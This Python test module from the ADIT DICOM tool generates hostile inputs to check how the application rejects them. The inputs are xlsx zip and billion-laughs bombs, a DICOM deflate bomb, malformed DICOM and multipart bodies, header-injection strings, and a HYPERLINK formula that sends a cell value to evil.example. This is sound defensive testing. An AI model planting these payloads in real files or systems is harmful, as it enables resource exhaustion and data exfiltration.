"""The bad-input corpus: what a careless or hostile user, client or PACS sends ADIT.

Every item is built in code when a test asks for it (bombs of hundreds of MB unpack from a
few hundred KB; nothing big is committed). An item knows its kind, which decides the entry
points it goes through (`adit/core/tests/test_bad_inputs.py`):

- `SPREADSHEET`: a file uploaded as a batch file (batch query, batch transfer).
- `STRING`: a value typed into a field meant for an exact identifier (the PatientID): forms,
  batch files (as a cell), the REST API, QIDO-RS parameters and the WebSocket live query.
  Wildcards are legal where ADIT searches (QIDO-RS, the live query), so those items skip
  those entry points.
- `DICOM`: a Part-10 file that is not a whole, valid instance: sent as a STOW-RS part and
  (its data set, without preamble and file meta) as a C-STORE to ADIT's receiver.
- `MULTIPART`: a STOW-RS request body (with its Content-Type) that is not a usable
  multipart/related message.
- `FORM_BODY`: a batch upload (or API) request body with its Content-Type that is not a usable
  multipart/form-data message.

`words` are alternatives, one of which must appear (case-insensitively) in the answer: the
answer must name the problem, not just refuse.
"""

from __future__ import annotations

import enum
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pydicom import Dataset
from pydicom.uid import DeflatedExplicitVRLittleEndian

from adit.core.testing.sheets import (
    csv_data,
    raw_xlsx,
    row_bomb_xlsx,
    shared_strings_bomb_xlsx,
    xlsx_data,
)


class Kind(enum.Enum):
    SPREADSHEET = "spreadsheet"
    STRING = "string"
    DICOM = "dicom"
    MULTIPART = "multipart"
    FORM_BODY = "form body"


@dataclass(frozen=True)
class BadInput:
    name: str
    kind: Kind
    make: Callable[..., object]
    """Spreadsheet: (file name, bytes), called with the header row the entry point needs (a
    damaged file must be damaged beyond its header to test more than the header). String:
    str. DICOM: Part-10 bytes. Multipart: (Content-Type, body)."""
    words: tuple[str, ...]
    skip: frozenset[str] = frozenset()
    """Entry points the item does not apply to (the value is legal there)."""

    def __str__(self) -> str:
        return self.name


# --- spreadsheets -------------------------------------------------------------------------------


def _zip_bomb_xlsx() -> bytes:
    """A sheet of 200 MB of blanks between two rows: tiny packed, huge unpacked."""
    blanks = " " * (1024 * 1024)
    return raw_xlsx(
        ["<row><c t='inlineStr'><is><t>PatientID</t></is></c></row>"]
        + [blanks] * 200
        + ["<row><c t='inlineStr'><is><t>P1</t></is></c></row>"]
    )


def _billion_laughs_xlsx() -> bytes:
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    return raw_xlsx(
        ["<row><c t='inlineStr'><is><t>&a9;</t></is></c></row>"],
        prolog=f"<!DOCTYPE worksheet [{entities}]>",
    )


def _truncated_xlsx() -> bytes:
    data = xlsx_data([["PatientID"], ["P1"]])
    return data[: len(data) // 2]


def _zip_of_other_things() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


def _row_for(header: list[str]) -> list[str]:
    """A valid row under `header` (the batch query or batch transfer columns)."""
    values = {
        "PatientID": "P1",
        "Modality": "CT",
        "StudyInstanceUID": "1.2.3.4",
        "Pseudonym": "PSN1",
    }
    return [values.get(column, "") for column in header]


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64

SPREADSHEETS = [
    BadInput(
        "xlsx-row-bomb",
        Kind.SPREADSHEET,
        lambda header: ("bomb.xlsx", row_bomb_xlsx(1_000_000)),
        ("times", "rows"),
    ),
    BadInput(
        "xlsx-shared-strings-bomb",
        Kind.SPREADSHEET,
        lambda header: ("strings.xlsx", shared_strings_bomb_xlsx(300)),
        ("MiB", "unpacks"),
    ),
    BadInput(
        "xlsx-zip-bomb",
        Kind.SPREADSHEET,
        lambda header: ("zip.xlsx", _zip_bomb_xlsx()),
        ("unpack",),
    ),
    BadInput(
        "xlsx-billion-laughs",
        Kind.SPREADSHEET,
        lambda header: ("laughs.xlsx", _billion_laughs_xlsx()),
        ("ENTITY", "DOCTYPE"),
    ),
    BadInput(
        "xlsx-truncated",
        Kind.SPREADSHEET,
        lambda header: ("cut.xlsx", _truncated_xlsx()),
        ("not a valid Excel workbook",),
    ),
    BadInput(
        "png-renamed-xlsx",
        Kind.SPREADSHEET,
        lambda header: ("image.xlsx", PNG),
        ("not a valid Excel workbook",),
    ),
    BadInput(
        "zip-renamed-xlsx",
        Kind.SPREADSHEET,
        lambda header: ("archive.xlsx", _zip_of_other_things()),
        ("not a valid Excel workbook",),
    ),
    BadInput(
        "xlsx-renamed-csv",
        Kind.SPREADSHEET,
        lambda header: ("sheet.csv", xlsx_data([["PatientID"], ["P1"]])),
        ("not UTF-8", "not a text"),
    ),
    BadInput(
        "csv-renamed-xlsx",
        Kind.SPREADSHEET,
        lambda header: ("text.xlsx", csv_data([["PatientID"], ["P1"]])),
        ("not a valid Excel workbook",),
    ),
    BadInput(
        "pdf-extension",
        Kind.SPREADSHEET,
        lambda header: ("batch.pdf", b"%PDF-1.4\n"),
        ("not an .xlsx or .csv",),
    ),
    BadInput("empty-csv", Kind.SPREADSHEET, lambda header: ("empty.csv", b""), ("empty",)),
    BadInput(
        "csv-unclosed-quote",
        Kind.SPREADSHEET,
        lambda header: ("quote.csv", csv_data([header]) + b'"P1\r\n'),
        ("malformed",),
    ),
    BadInput(
        "csv-nul-bytes",
        Kind.SPREADSHEET,
        lambda header: ("nul.csv", csv_data([header]) + b"P\x001\r\n"),
        ("malformed", "not a text", "control"),
    ),
    BadInput(
        "csv-unnamed-column",
        Kind.SPREADSHEET,
        lambda header: ("columns.csv", csv_data([header, [*_row_for(header), "extra"]])),
        ("no name in the header",),
    ),
]


# --- hostile strings (as a PatientID) -----------------------------------------------------------

SEARCHES = frozenset({"qido", "websocket_query", "explorer_search"})

STRINGS = [
    BadInput("wildcard-star", Kind.STRING, lambda: "PAT*", ("Wildcards",), skip=SEARCHES),
    BadInput("wildcard-question", Kind.STRING, lambda: "P?T1", ("Wildcards",), skip=SEARCHES),
    BadInput("backslash", Kind.STRING, lambda: "PAT\\1", ("Backslash",)),
    BadInput(
        "nul",
        Kind.STRING,
        lambda: "PAT\x001",
        # A NUL makes a CSV file binary: "not a text (CSV) file" names it there.
        ("control character", "Null character", "not a text"),
    ),
    BadInput("escape-sequence", Kind.STRING, lambda: "PAT\x1b[31m1", ("control character",)),
    BadInput("newline", Kind.STRING, lambda: "PAT1\r\nX-Injected: 1", ("control character",)),
    BadInput(
        "rtl-override",
        Kind.STRING,
        lambda: "PAT\u202e1GNP.exe",
        ("bidirectional",),
    ),
    BadInput(
        "10kB-value",
        Kind.STRING,
        lambda: "P" * 10_240,
        ("at most 64", "64 characters", "query string"),
    ),
    BadInput(
        "formula-with-backslash",
        Kind.STRING,
        lambda: '=HYPERLINK("http://evil.example/?"&A1,"\\\\evil\\share")',
        ("Backslash",),
    ),
    BadInput(
        "dot-dot-slash-long",
        Kind.STRING,
        lambda: "../" * 30,
        ("at most 64", "64 characters"),
    ),
]


# --- malformed DICOM ----------------------------------------------------------------------------


def base_instance() -> Dataset:
    """A small, valid CT instance (Explicit VR Little Endian) to break."""
    from pydicom.uid import ExplicitVRLittleEndian

    from adit.core.dicom.testing.synthetic import make_study

    ds = make_study("BADINPUT", series=(("CT", 1),), compressed_series=False, seed="bad")[0]
    ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    return ds


def part10(ds: Dataset) -> bytes:
    from adit.core.dicom.testing.peers import dataset_to_bytes

    return dataset_to_bytes(ds)


def split_part10(data: bytes) -> tuple[bytes, bytes]:
    """(preamble + file meta, data set) of a Part-10 file with a group length."""
    (group_length,) = struct.unpack_from("<I", data, 132 + 8)
    end = 132 + 12 + group_length
    return data[:end], data[end:]


def _element(group: int, element: int, vr: bytes, value: bytes, length: int | None = None):
    """An Explicit VR Little Endian element; `length` overrides the declared length."""
    declared = len(value) if length is None else length
    if vr in (b"OB", b"OW", b"SQ", b"UN", b"UT", b"UC"):
        return struct.pack("<HH2sHI", group, element, vr, 0, declared) + value
    return struct.pack("<HH2sH", group, element, vr, declared) + value


def _with_tail(tail: bytes) -> bytes:
    """The base instance without its pixel data, followed by `tail` (raw elements)."""
    ds = base_instance()
    del ds.PixelData
    return part10(ds) + tail


def _truncated() -> bytes:
    data = part10(base_instance())
    return data[: len(data) - 300]


def _cut_in_file_meta() -> bytes:
    return part10(base_instance())[:150]


def _wrong_preamble() -> bytes:
    data = part10(base_instance())
    return b"\xff" * 128 + b"DICX" + data[132:]


def _huge_pixel_length() -> bytes:
    return _with_tail(_element(0x7FE0, 0x0010, b"OW", b"\x00" * 64, length=0xFFFFFFF0))


def _huge_short_length() -> bytes:
    """A LO element declaring 65,535 bytes of which 8 are there, before the SOP UIDs end."""
    head, dataset = split_part10(part10(base_instance()))
    return head + _element(0x0008, 0x0005, b"CS", b"ISO_IR 6", length=0xFFFF) + dataset


def _unterminated_sequence() -> bytes:
    item = struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF) + _element(0x0008, 0x0100, b"SH", b"X1")
    return _with_tail(_element(0x0040, 0x0275, b"SQ", item, length=0xFFFFFFFF))


def _stray_delimiters() -> bytes:
    delimiters = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    return _with_tail(delimiters * 3)


def _deep_nesting() -> bytes:
    item_start = struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
    sequence = struct.pack("<HH2sHI", 0x0040, 0x0275, b"SQ", 0, 0xFFFFFFFF)
    item_end = struct.pack("<HHI", 0xFFFE, 0xE00D, 0)
    sequence_end = struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    depth = 500
    return _with_tail((sequence + item_start) * depth + (item_end + sequence_end) * depth)


def _deflate_bomb() -> bytes:
    """Deflated Explicit VR Little Endian whose data set inflates to 1 GiB (about 1 MB)."""
    ds = base_instance()
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    head, _ = split_part10(part10(ds))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    header = _element(0x0008, 0x0016, b"UI", str(ds.SOPClassUID).encode().ljust(26, b"\0")[:26])
    sop_instance_uid = str(ds.SOPInstanceUID).encode()
    header += _element(
        0x0008, 0x0018, b"UI", sop_instance_uid + b"\0" * (len(sop_instance_uid) % 2)
    )
    chunks = [compressor.compress(header + _element(0x7FE0, 0x0010, b"OB", b"", 1 << 30))]
    zeros = bytes(1 << 24)
    for _ in range(64):
        chunks.append(compressor.compress(zeros))
    chunks.append(compressor.flush())
    return head + b"".join(chunks)


def _not_dicom() -> bytes:
    return PNG


DICOM_WORDS = ("not a valid DICOM", "not whole", "inflates to more than", "empty", "0xC210")

DICOMS = [
    BadInput("dicom-truncated", Kind.DICOM, _truncated, DICOM_WORDS),
    BadInput("dicom-cut-in-file-meta", Kind.DICOM, _cut_in_file_meta, DICOM_WORDS),
    BadInput("dicom-wrong-preamble", Kind.DICOM, _wrong_preamble, DICOM_WORDS),
    BadInput("dicom-huge-pixel-length", Kind.DICOM, _huge_pixel_length, DICOM_WORDS),
    BadInput("dicom-huge-short-length", Kind.DICOM, _huge_short_length, DICOM_WORDS),
    BadInput("dicom-unterminated-sequence", Kind.DICOM, _unterminated_sequence, DICOM_WORDS),
    BadInput("dicom-stray-delimiters", Kind.DICOM, _stray_delimiters, DICOM_WORDS),
    BadInput("dicom-500-nested-sequences", Kind.DICOM, _deep_nesting, DICOM_WORDS),
    BadInput("dicom-deflate-bomb", Kind.DICOM, _deflate_bomb, DICOM_WORDS),
    BadInput("dicom-png", Kind.DICOM, _not_dicom, DICOM_WORDS),
    BadInput("dicom-empty", Kind.DICOM, lambda: b"", DICOM_WORDS),
]


# --- malformed multipart (STOW-RS bodies) -------------------------------------------------------

STOW_TYPE = 'multipart/related; type="application/dicom"; boundary=bnd'


def _part(payload: bytes, headers: bytes = b"Content-Type: application/dicom\r\n") -> bytes:
    return b"--bnd\r\n" + headers + b"\r\n" + payload + b"\r\n"


MULTIPARTS = [
    BadInput(
        "multipart-no-delimiter",
        Kind.MULTIPART,
        lambda: (STOW_TYPE, b"just some bytes"),
        ("no part delimited",),
    ),
    BadInput(
        "multipart-no-closing-delimiter",
        Kind.MULTIPART,
        lambda: (STOW_TYPE, b"--bnd\r\nContent-Type: application/dicom\r\n\r\nabc"),
        ("closing",),
    ),
    BadInput(
        "multipart-2MB-header-line",
        Kind.MULTIPART,
        lambda: (STOW_TYPE, _part(b"x", b"X-Long: " + b"a" * 2_000_000 + b"\r\n") + b"--bnd--\r\n"),
        ("headers are longer",),
    ),
    BadInput(
        "multipart-text-part",
        Kind.MULTIPART,
        lambda: (STOW_TYPE, _part(b"hello", b"Content-Type: text/plain\r\n") + b"--bnd--\r\n"),
        ("is not supported",),
    ),
    BadInput(
        "multipart-missing-boundary-parameter",
        Kind.MULTIPART,
        lambda: ('multipart/related; type="application/dicom"', _part(b"x") + b"--bnd--\r\n"),
        ("boundary",),
    ),
    BadInput(
        "multipart-300-character-boundary",
        Kind.MULTIPART,
        lambda: (f"multipart/related; boundary={'b' * 300}", b"--" + b"b" * 300 + b"--\r\n"),
        ("longer than 200",),
    ),
    BadInput(
        "multipart-form-data",
        Kind.MULTIPART,
        lambda: ("multipart/form-data; boundary=bnd", _part(b"x") + b"--bnd--\r\n"),
        ("multipart/related",),
    ),
    BadInput(
        "multipart-empty",
        Kind.MULTIPART,
        lambda: (STOW_TYPE, b"--bnd--\r\n"),
        ("no parts",),
    ),
]

# --- malformed form bodies (batch uploads) ------------------------------------------------------

FORM_TYPE = "multipart/form-data; boundary=frm"
FORM_WORDS = ("request body is malformed",)

FORM_BODIES = [
    BadInput(
        "form-without-boundary-parameter",
        Kind.FORM_BODY,
        lambda: ("multipart/form-data", b"--frm\r\n\r\nx\r\n--frm--\r\n"),
        FORM_WORDS,
    ),
    BadInput(
        "form-boundary-with-invalid-characters",
        Kind.FORM_BODY,
        lambda: ('multipart/form-data; boundary="a\x7fb"', b"--a\x7fb--\r\n"),
        FORM_WORDS,
    ),
    BadInput(
        "form-file-part-without-closing-boundary",
        Kind.FORM_BODY,
        lambda: (
            FORM_TYPE,
            b'--frm\r\nContent-Disposition: form-data; name="batch_file"; filename="b.csv"'
            b"\r\n\r\nPatientID\r\nP1\r\n",
        ),
        ("batch_file", "No file was submitted", "This field is required", "malformed"),
    ),
    BadInput(
        "form-1100-fields",
        Kind.FORM_BODY,
        lambda: (
            FORM_TYPE,
            b"".join(
                b'--frm\r\nContent-Disposition: form-data; name="f%d"\r\n\r\n1\r\n' % n
                for n in range(1100)
            )
            + b"--frm--\r\n",
        ),
        ("more than 1000 fields",),
    ),
    BadInput(
        "form-200-files",
        Kind.FORM_BODY,
        lambda: (
            FORM_TYPE,
            b"".join(
                b'--frm\r\nContent-Disposition: form-data; name="batch_file"; '
                b'filename="b%d.csv"\r\n\r\nPatientID\r\n\r\n' % n
                for n in range(200)
            )
            + b"--frm--\r\n",
        ),
        ("more than 100 files",),
    ),
]

CORPUS = [*SPREADSHEETS, *STRINGS, *DICOMS, *MULTIPARTS, *FORM_BODIES]


def dicom_item(name: str) -> bytes:
    """The bytes of the DICOM item called `name` (for tests outside the harness)."""
    data = next(item for item in DICOMS if item.name == name).make()
    assert isinstance(data, bytes)
    return data
